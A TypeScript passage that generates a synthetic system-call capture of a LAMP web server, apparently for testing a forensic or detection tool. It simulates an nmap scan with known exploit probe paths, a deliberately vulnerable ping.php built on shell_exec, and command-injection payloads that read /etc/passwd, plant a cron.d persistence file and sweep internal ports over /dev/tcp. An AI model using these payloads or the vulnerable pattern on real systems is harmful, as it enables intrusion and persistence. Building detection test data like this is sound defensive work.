        code: 200,
        body: '<html><body><a href="/login.php">Login</a></body></html>',
      },
    ];
    for (const [path, size, type] of assets.slice(0, 1 + (i % assets.length))) {
      pages.push({
        req: { method: 'GET', path, ua, referer: `http://${HOST}/` },
        script: `/var/www/html${path}`,
        status: '200 OK',
        code: 200,
        body: '',
        static: size,
        headers: [`Content-Type: ${type}`],
      });
    }
    pages.push({
      req: { method: 'GET', path: '/about.php', ua, referer: `http://${HOST}/` },
      script: '/var/www/html/about.php',
      status: '200 OK',
      code: 200,
      body: '<html><body><h1>About us</h1></body></html>',
    });
    const t0 = at;
    const c: Conn = { sip: ip, sport: 40000 + rng.int(0, 20000), dip: HOST, dport: 80 };
    const gap = rng.ns(15, 60) * MS;
    agenda.push({ at: t0, run: () => serve(h, i % 2, t0, c, pages, gap) });
  }
}

// ---------------------------------------------------------------------------------------------
// Port scan from outside

function portScan(h: Host, agenda: Agenda): void {
  const sim = h.sim;
  const rng = sim.rng;
  let t = START + 1450n * MS;
  let sport = 38211;
  // nmap -sV / NSE http probes; every path has its own length, so no two scanner connections
  // move the same number of bytes (top-N chisel rankings then have no ties at their cut).
  const paths = [
    '/',
    '/sdk',
    '/HNAP1',
    '/evox/about',
    '/robots.txt',
    '/.git/HEAD',
    '/server-status',
    '/phpmyadmin/',
    '/wp-login.php',
    '/cgi-bin/test.cgi',
    '/admin/config.php',
    '/nmaplowercheck1715679013',
    '/nice%20ports%2C/Tri%6Eity.txt%2ebak',
    '/.well-known/security.txt',
    '/backup/db.sql.gz',
    '/xmlrpc.php',
    '/console/login/LoginForm.jsp',
    '/solr/admin/info/system?wt=json',
    '/actuator/health',
    '/manager/html',
    '/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f',
    '/index.php?s=/Index/\\think\\app/invokefunction',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/.env',
  ];
  const probesHttp = paths.map((p, k) =>
    k % 5 === 3
      ? `OPTIONS ${p} HTTP/1.0\r\n\r\n`
      : `GET ${p} HTTP/1.1\r\nHost: ${HOST}\r\nUser-Agent: ${NMAP}\r\n\r\n`,
  );
  let httpProbe = 0;
  // SYN probes to closed ports never reach user space; connections to the four open ports do.
  for (let i = 0; i < 64; i++) {
    const port = [80, 443, 80, 22, 3306, 80, 443, 80][i % 8] ?? 80;
    t += rng.ns(3, 14) * MS;
    const c: Conn = { sip: ATTACKER, sport: sport++, dip: HOST, dport: port };
    const at = t;
    agenda.push({
      at,
      run: () => {
        t = at;
        if (port === 80 || port === 443) {
          const wi = i % 2;
          const l = h.listeners[wi];
          const w = h.workerThreads[wi]?.[1];
          if (!l || !w) return;
          if (i % 5 === 4) {
            // The scanner's RST arrived between the handshake and accept().
            acceptOn(l, t, port === 80 ? 3 : 4, null, ECONNABORTED);
            l.enter('epoll_wait', { maxevents: 2 });
            return;
          }
          const fd = acceptOn(l, t, port === 80 ? 3 : 4, c);
          handoff(l, wi, w);
          if (port === 443) {
            if (i % 3 === 0) {
              const hello = Uint8Array.from([
                0x16,
                0x03,
                0x01,
                0x00,
                0x5d,
                0x01,
                0x00,
                0x00,
                0x59,
                0x03,
                0x03,
                ...Array.from({ length: 40 }, () => rng.int(0, 255)),
              ]);
              read(w, fd, 5, hello.subarray(0, 5));
              readErr(w, fd, 88, ECONNRESET);
            } else {
              readErr(w, fd, 5, ECONNRESET);
            }
          } else {
            const probe = probesHttp[httpProbe++ % probesHttp.length] ?? '';
            if (i % 4 === 3) {
              readErr(w, fd, 8000, ECONNRESET);
            } else {
              read(w, fd, 8000, probe);
              const options = probe.startsWith('OPTIONS');
              const path = probe.split(' ')[1] ?? '-';
              const body = options
                ? ''
                : `<!DOCTYPE HTML PUBLIC "-//IETF//DTD HTML 2.0//EN">\n<html><head>\n<title>404 Not Found</title>\n</head><body>\n<h1>Not Found</h1>\n<p>The requested URL ${path} was not found on this server.</p>\n</body></html>\n`;
              const resp = responseText(
                w.t,
                options ? '200 OK' : '404 Not Found',
                body,
                options ? ['Allow: GET,HEAD,POST,OPTIONS,TRACE'] : [],
              );
              writev(w, fd, resp);
              const req: HttpReq = { method: options ? 'OPTIONS' : 'GET', path, ua: NMAP };
              accessLog(w, c, req, options ? 200 : 404, bytesOf(body).length, h);
              read(w, fd, 8000, '');
            }
          }
          close(w, fd);
          w.enter('futex', {
            addr: 0x7f3b10002d40n + BigInt(wi),
            op: sim.flags('futex', '>', 'op', ['FUTEX_WAIT', 'FUTEX_PRIVATE_FLAG']),
            val: 0,
          });
        } else if (port === 22) {
          const s = h.sshd;
          s.until(t);
          s.exit('poll', {
            res: 1,
            fds: [
              { fd: 3, flags: 1 },
              { fd: 4, flags: 0 },
            ],
          });
          const fd = s.proc.allocFd(s.t);
          s.call('accept', {}, { fd, tuple: tuple(c), queuepct: 0, queuelen: 0, queuemax: 128 });
          sockFd(s.proc, fd, c);
          const child = fork(s, h.nextPid++, 0);
          close(s, fd);
          s.enter('poll', {
            fds: [
              { fd: 3, flags: 1 },
              { fd: 4, flags: 1 },
            ],
            timeout: -1,
          });
          close(child, 3);
          close(child, 4);
          write(child, fd, 'SSH-2.0-OpenSSH_7.4\r\n');
          if (i % 2 === 1) {
            read(child, fd, 8192, 'SSH-2.0-Nmap-SSH2-Hostkey\r\n');
            read(child, fd, 35000, '');
          } else {
            readErr(child, fd, 8192, ECONNRESET);
          }
          procexit(child, 255);
        } else {
          const m = h.mysqlMain;
          m.until(t);
          m.exit('poll', { res: 1, fds: [{ fd: 12, flags: 1 }] });
          const sfd = h.mysqld.allocFd(m.t);
          m.call(
            'accept4',
            { flags: 0 },
            { fd: sfd, tuple: tuple(c), queuepct: 0, queuelen: 0, queuemax: 80 },
          );
          sockFd(h.mysqld, sfd, c);
          futexWake(m, 0x7f2a41e0c8a8n);
          m.enter('poll', {
            fds: [
              { fd: 12, flags: 1 },
              { fd: 13, flags: 1 },
            ],
            timeout: -1,
          });
          const ct = h.mysqlConn[1] ?? m;
          ct.until(m.t);
          ct.exit('futex', { res: 0 });
          const salt = Uint8Array.from({ length: 20 }, () => rng.int(33, 126));
          sendto(ct, sfd, my.greeting('5.5.68-MariaDB', h.nextMysqlThreadId++, salt));
          ct.call('recvfrom', { fd: sfd, size: 16384 }, { res: 0, data: null, tuple: null });
          write(
            ct,
            2,
            `240514  9:30:1${rng.int(3, 4)} [Warning] Aborted connection ${h.nextMysqlThreadId - 1} to db: 'unconnected' user: 'unauthenticated' host: '${ATTACKER}' (This connection closed normally without authentication)\n`,
          );
          close(ct, sfd);
          ct.enter('futex', {
            addr: 0x7f2a41e0c8a8n,
            op: sim.flags('futex', '>', 'op', ['FUTEX_WAIT', 'FUTEX_PRIVATE_FLAG']),
            val: 0,
          });
        }
      },
    });
  }
}

// ---------------------------------------------------------------------------------------------
// Command injection → shell → /etc/cron.d write, internal sweep

function runChild(parent: Thread, exe: string, args: string[], cpu: number, h: Host): Thread {
  const c = fork(parent, h.nextPid++, cpu);
  execve(c, {
    comm: exe.split('/').pop() ?? exe,
    exe: exe.split('/').pop() ?? exe,
    exepath: exe,
    args,
    vmsizeKb: 108000,
    vmrssKb: 700,
  });
  ldStartup(c, ['/lib64/libc.so.6']);
  return c;
}

/** PHP's shell_exec(): pipe + vfork + exec /bin/sh -c CMD; the script reads the output. */
function injection(
  h: Host,
  at: bigint,
  wi: number,
  postBody: string,
  cmd: string,
  inner: (sh: Thread) => string,
): void {
  const sim = h.sim;
  const rng = sim.rng;
  const c: Conn = { sip: ATTACKER, sport: 52000 + rng.int(0, 999), dip: HOST, dport: 80 };
  const l = h.listeners[wi];
  const w = h.workerThreads[wi]?.[0];
  if (!l || !w) throw new Error('no worker');
  const fd = acceptOn(l, at, 3, c);
  handoff(l, wi, w);
  const req: HttpReq = { method: 'POST', path: '/admin/ping.php', ua: 'curl/7.88.1', body: postBody };
  read(w, fd, 8000, requestText(req));
  stat(w, '/var/www/html/admin/ping.php');
  slurp(
    w,
    '/var/www/html/admin/ping.php',
    "<?php\necho '<pre>' . shell_exec('ping -c 1 ' . $_POST['host']) . '</pre>';\n",
  );
  const [pr, pw] = pipe(w, 58213 + rng.int(0, 999));
  const sh = fork(w, h.nextPid++, 3, true);
  dupTo(sh, pw, 1);
  close(sh, pr);
  close(sh, pw);
  execve(sh, {
    comm: 'sh',
    exe: 'sh',
    exepath: '/usr/bin/sh',
    args: ['-c', `ping -c 1 ${cmd}`],
    vmsizeKb: 115300,
    vmrssKb: 1420,
    env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin', 'PWD=/', 'LANG=C', 'SHLVL=1'],
  });
  close(w, pw);
  ldStartup(sh, ['/lib64/libtinfo.so.5', '/lib64/libdl.so.2', '/lib64/libc.so.6']);
  const output = ping(h, sh, cmd) + inner(sh);
  procexit(sh, 0);
  w.until(sh.t);
  read(w, pr, 8192, output);
  read(w, pr, 8192, '');
  close(w, pr);
  w.until(sh.t + 30n * US);
  w.enter('signaldeliver', { spid: sh.tid, dpid: w.proc.pid, sig: 17 });
  const body = `<pre>${output}</pre>`;
  writev(w, fd, responseText(w.t, '200 OK', body));
  accessLog(w, c, req, 200, bytesOf(body).length, h);
  read(w, fd, 8000, '');
  close(w, fd);
  w.enter('futex', {
    addr: 0x7f3b10002d40n + BigInt(wi),
    op: sim.flags('futex', '>', 'op', ['FUTEX_WAIT', 'FUTEX_PRIVATE_FLAG']),
    val: 0,
  });
}

/** The `ping -c 1 <host>` the script meant to run: one ICMP echo to 127.0.0.1, or a usage error
 *  (on stderr, which is httpd's error_log) when the injected text leaves no host. */
function ping(h: Host, sh: Thread, cmd: string): string {
  const sim = h.sim;
  const dest = /^(\d+\.\d+\.\d+\.\d+);/.exec(cmd)?.[1];
  const p = runChild(sh, '/usr/bin/ping', dest ? ['-c', '1', dest] : ['-c', '1'], 1, h);
  let out = '';
  if (dest) {
    const fd = p.proc.allocFd(p.t);
    p.call('socket', { domain: sim.flags('socket', '>', 'domain', ['AF_INET']), type: 2, proto: 1 }, { fd });
    const icmp = Uint8Array.from({ length: 64 }, (_, k) =>
      k < 8 ? ([8, 0, 0x4c, 0x2b, 0x7a, 0x91, 0, 1][k] ?? 0) : k,
    );
    p.call(
      'sendto',
      { fd, size: 64, tuple: { family: 'inet', sip: '0.0.0.0', sport: 0, dip: dest, dport: 0 } },
      { res: 64, data: icmp },
    );
    const reply = icmp.slice();
    reply[0] = 0;
    p.call(
      'recvfrom',
      { fd, size: 192 },
      { res: 64, data: reply, tuple: { family: 'inet', sip: dest, sport: 0, dip: dest, dport: 0 } },
      48000,
    );
    out = `PING ${dest} (${dest}) 56(84) bytes of data.\n64 bytes from ${dest}: icmp_seq=1 ttl=64 time=0.048 ms\n\n--- ${dest} ping statistics ---\n1 packets transmitted, 1 received, 0% packet loss, time 0ms\nrtt min/avg/max/mdev = 0.048/0.048/0.048/0.000 ms\n`;
    write(p, 1, out);
    close(p, fd);
    procexit(p, 0);
  } else {
    write(p, 2, 'ping: usage error: Destination address required\n');
    procexit(p, 2);
  }
  sh.until(p.t);
  return out;
}

function exploit(h: Host, agenda: Agenda): void {
  const cmd1 = `127.0.0.1;id;cat /etc/passwd;echo "${CRON_LINE.trim()}"|tee /etc/cron.d/sysupdate`;
  agenda.push({
    at: START + 2620n * MS,
    run: () =>
      injection(h, START + 2620n * MS, 0, 'host=' + encodeURIComponent(cmd1), cmd1, (sh) => {
        let out = '';
        // `id`
        const id = runChild(sh, '/usr/bin/id', [], 2, h);
        slurp(id, '/etc/nsswitch.conf', 'passwd:     files sss\ngroup:      files sss\n');
        slurp(id, '/etc/passwd', PASSWD);
        slurp(id, '/etc/group', 'root:x:0:\napache:x:48:\n');
        const idOut =
          'uid=48(apache) gid=48(apache) groups=48(apache) context=system_u:system_r:httpd_t:s0\n';
        write(id, 1, idOut);
        out += idOut;
        procexit(id);
        sh.until(id.t);
        // `cat /etc/passwd`
        const cat = runChild(sh, '/usr/bin/cat', ['/etc/passwd'], 2, h);
        const pfd = openat(cat, '/etc/passwd', ['O_RDONLY']);
        fstat(cat, pfd);
        read(cat, pfd, 131072, PASSWD);
        write(cat, 1, PASSWD);
        out += PASSWD;
        read(cat, pfd, 131072, '');
        close(cat, pfd);
        close(cat, 1);
        procexit(cat);
        sh.until(cat.t);
        // `echo ... | tee /etc/cron.d/sysupdate`
        const [r, wr] = pipe(sh, 58301);
        const echo = fork(sh, h.nextPid++, 1);
        const tee = fork(sh, h.nextPid++, 2);
        close(sh, r);
        close(sh, wr);
        dupTo(echo, wr, 1);
        close(echo, r);
        close(echo, wr);
        write(echo, 1, CRON_LINE);
        procexit(echo);
        tee.until(echo.t - 200n * US);
        dupTo(tee, r, 0);
        close(tee, r);
        close(tee, wr);
        execve(tee, {
          comm: 'tee',
          exe: 'tee',
          exepath: '/usr/bin/tee',
          args: ['/etc/cron.d/sysupdate'],
          vmsizeKb: 108020,
          vmrssKb: 688,
        });
        ldStartup(tee, ['/lib64/libc.so.6']);
        const cfd = openat(tee, '/etc/cron.d/sysupdate', ['O_WRONLY', 'O_CREAT', 'O_TRUNC'], 0o666);
        tee.until(echo.t);
        read(tee, 0, 8192, CRON_LINE);
        write(tee, 1, CRON_LINE);
        write(tee, cfd, CRON_LINE);
        out += CRON_LINE;
        read(tee, 0, 8192, '');
        close(tee, cfd);
        close(tee, 1);
        procexit(tee);
        sh.until(tee.t);
        return out;
      }),
  });

  const ports = [21, 22, 23, 25, 80, 110, 139, 443, 445, 3306, 5432, 6379, 8080, 9200];
  const open = new Set([22, 5432]);
  const cmd2 = `;for p in ${ports.join(' ')}; do (echo >/dev/tcp/${INTERNAL}/$p) 2>/dev/null && echo open:$p; done`;
  agenda.push({
    at: START + 3480n * MS,
    run: () =>
      injection(h, START + 3480n * MS, 1, 'host=' + encodeURIComponent(cmd2), cmd2, (sh) => {
        let out = '';
        let sport = 49102;
        for (const p of ports) {
          const sub = fork(sh, h.nextPid++, 3);
          const fd = sub.proc.allocFd(sub.t);
          sub.call(
            'socket',
            { domain: sh.sim.flags('socket', '>', 'domain', ['AF_INET']), type: 1, proto: 6 },
            { fd },
          );
          const c: Conn = { sip: HOST, sport: sport++, dip: INTERNAL, dport: p };
          sub.enter('connect', { fd, addr: { family: 'inet', ip: INTERNAL, port: p } });
          sub.wait(sh.sim.rng.ns(180, 420) * US);
          if (open.has(p)) {
            sub.exit('connect', { res: 0, tuple: tuple(c) });
            sockFd(sub.proc, fd, c);
            dupTo(sub, fd, 1);
            close(sub, fd);
            write(sub, 1, '\n');
            close(sub, 1);
            procexit(sub, 0);
            sh.until(sub.t);
            const line = `open:${p}\n`;
            write(sh, 1, line);
            out += line;
          } else {
            sub.exit('connect', { res: -ECONNREFUSED, tuple: tuple(c) });
            close(sub, fd);
            procexit(sub, 1);
            sh.until(sub.t);
          }
        }
        return out;
      }),
  });
}

/** crond's once-a-minute check sees /etc/cron.d changed and loads the new file. */
function cronReload(h: Host): void {
  const c = h.crond;
  c.until(START + 4180n * MS);
  c.exit('nanosleep', { res: 0 });
  stat(c, '/etc/cron.d');
  stat(c, '/etc/cron.d/0hourly');
  stat(c, '/etc/cron.d/sysupdate');
  const fd = open(c, '/etc/cron.d/sysupdate', ['O_RDONLY']);
  fstat(c, fd);
  read(c, fd, 4096, CRON_LINE);
  read(c, fd, 4096, '');
  close(c, fd);
  const msg = '<78>May 14 09:30:16 crond[640]: (root) RELOAD (/etc/cron.d/sysupdate)';
  c.call('sendto', { fd: 3, size: msg.length, tuple: null }, { res: msg.length, data: bytesOf(msg) });
  const r = h.rsyslog;
  r.until(c.t);
  r.exit('poll', { res: 1, fds: [{ fd: 3, flags: 1 }] });
  r.call('recvfrom', { fd: 3, size: 8096 }, { res: msg.length, data: bytesOf(msg), tuple: null });
  write(r, 7, 'May 14 09:30:16 web01 crond[640]: (root) RELOAD (/etc/cron.d/sysupdate)\n');
  r.enter('poll', { fds: [{ fd: 3, flags: 1 }], timeout: -1 });
  c.enter('nanosleep', { interval: 60_000_000_000n });
}

// ---------------------------------------------------------------------------------------------
// Background activity

function background(h: Host, end: bigint): void {
  const sim = h.sim;
  const rng = sim.rng;
  // httpd parent: the once-a-second maintenance loop.
  const p = h.httpdParent;
  p.wait(rng.ns(10, 900) * MS);
  while (p.t + 1000n * MS < end) {
    nanosleep(p, 1000n * MS);
    p.call('kill', { pid: 2010, sig: 0 }, { res: 0 });
    p.call('kill', { pid: 2011, sig: 0 }, { res: 0 });
  }
  // InnoDB background threads: the log writer appends 512-byte log blocks to ib_logfile0; the
  // page cleaner flushes 16 KiB pages to the system tablespace (doublewrite buffer).
  const logWriter = sim.threads.get(1031);
  if (logWriter) {
    logWriter.wait(rng.ns(5, 300) * MS);
    let lsn = 1_622_016;
    while (logWriter.t + 150n * MS < end) {
      futexWait(logWriter, 0x7f2a50004c38n, rng.ns(60, 140) * MS, -110);
      const blk = new Uint8Array(512);
      blk.set([0x80, 0x00, 0x0c, 0x6d, 0x02, 0x0e, 0x00, 0x0c]);
      logWriter.call('pwrite', { fd: 4, size: 512, pos: lsn }, { res: 512, data: blk }, 40000);
      lsn += 512;
    }
  }
  const cleaner = sim.threads.get(1032);
  if (cleaner) {
    cleaner.wait(rng.ns(5, 300) * MS);
    while (cleaner.t + 400n * MS < end) {
      futexWait(cleaner, 0x7f2a50004d10n, rng.ns(250, 400) * MS, -110);
      const page = new Uint8Array(16384);
      const pageNo = rng.int(64, 191);
      page.set([0x9c, 0x3e, 0x11, 0x7a, 0, 0, 0, 0, (pageNo >> 8) & 0xff, pageNo & 0xff]);
      cleaner.call(
        'pwrite',
        { fd: 3, size: 16384, pos: pageNo * 16384 },
        { res: 16384, data: page.subarray(0, 512) },
        120000,
      );
      cleaner.call('fstat', { fd: 3 }, { res: 0 });
    }
  }
}

/** Puts the long-blocking threads into their waits at the start and wakes the idle listeners. */
function primeWaits(h: Host): void {
  const sim = h.sim;
  const rng = sim.rng;
  for (const l of h.listeners) {
    l.wait(rng.ns(1_000_000, 30_000_000));
    l.enter('epoll_wait', { maxevents: 2 });
  }
  for (const ws of h.workerThreads) {
    for (const w of ws) {
      w.wait(rng.ns(1_000_000, 40_000_000));
      w.enter('futex', {
        addr: 0x7f3b10002d40n + BigInt(ws === h.workerThreads[0] ? 0 : 1),
        op: sim.flags('futex', '>', 'op', ['FUTEX_WAIT', 'FUTEX_PRIVATE_FLAG']),
        val: 0,
      });
    }
  }
  h.mysqlMain.wait(rng.ns(1_000_000, 20_000_000));
  h.mysqlMain.enter('poll', {
    fds: [
      { fd: 12, flags: 1 },
      { fd: 13, flags: 1 },
    ],
    timeout: -1,
  });
  for (const ct of h.mysqlConn) {
    ct.wait(rng.ns(1_000_000, 20_000_000));
    ct.enter('futex', {
      addr: 0x7f2a41e0c8a8n,
      op: sim.flags('futex', '>', 'op', ['FUTEX_WAIT', 'FUTEX_PRIVATE_FLAG']),
      val: 0,
    });
  }
  h.sshd.wait(rng.ns(1_000_000, 20_000_000));
  h.sshd.enter('poll', {
    fds: [
      { fd: 3, flags: 1 },
      { fd: 4, flags: 1 },
    ],
    timeout: -1,
  });
  h.rsyslog.wait(rng.ns(1_000_000, 20_000_000));
  h.rsyslog.enter('poll', { fds: [{ fd: 3, flags: 1 }], timeout: -1 });
  h.crond.wait(rng.ns(1_000_000, 20_000_000));
  h.crond.enter('nanosleep', { interval: 60_000_000_000n });
}

/** Builds the whole scenario: header (state at capture start) and events in time order. */
export function lampAudit(): { header: CaptureHeader; events: RawEvent[] } {
  const h = setup();
  const end = START + 4600n * MS;
  primeWaits(h);
  // Activities run in order of their start times so each thread's clock moves forward the way
  // the story does (a later activity that needs a busy thread waits for it).
  const agenda: Agenda = [];
  legitSessions(h, agenda);
  browsing(h, agenda);
  portScan(h, agenda);
  exploit(h, agenda);
  agenda.push({ at: START + 4180n * MS, run: () => cronReload(h) });
  agenda.sort((x, y) => (x.at < y.at ? -1 : x.at > y.at ? 1 : 0));
  for (const item of agenda) item.run();
  for (const l of h.listeners) listenerIdle(l, end);
  background(h, end);
  followLog(h);
  return h.sim.finish();
}
